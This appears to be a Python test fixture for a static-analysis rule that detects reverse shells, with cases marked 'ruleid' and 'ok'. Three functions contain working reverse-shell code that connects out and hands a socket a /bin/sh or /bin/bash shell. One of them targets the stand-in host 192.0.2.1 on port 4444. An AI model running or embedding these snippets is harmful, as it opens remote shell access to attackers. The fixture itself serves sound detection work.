import os
import pty
import socket
import subprocess


def first():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    # ruleid: python/command-injection/reverse-shell
    s.connect(("192.0.2.1", 4444))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    subprocess.call(["/bin/sh", "-i"])


def second(host, port):
    client = socket.socket()
    address = (host, port)
    # ruleid: python/command-injection/reverse-shell
    client.connect(address)
    os.dup2(client.fileno(), 0)
    pty.spawn("/bin/bash")


def third(host):
    client = socket.socket()
    # ruleid: python/command-injection/reverse-shell
    client.connect((host, 9001))
    os.dup2(client.fileno(), 2)
    os.system("/bin/sh")


def talk(host):
    client = socket.socket()
    # ok: python/command-injection/reverse-shell
    client.connect((host, 9001))
    client.send(b"hello")


def local():
    # ok: python/command-injection/reverse-shell
    subprocess.call(["/bin/sh", "-c", "uptime"])
    # ok: python/command-injection/reverse-shell
    pty.spawn("/bin/bash")
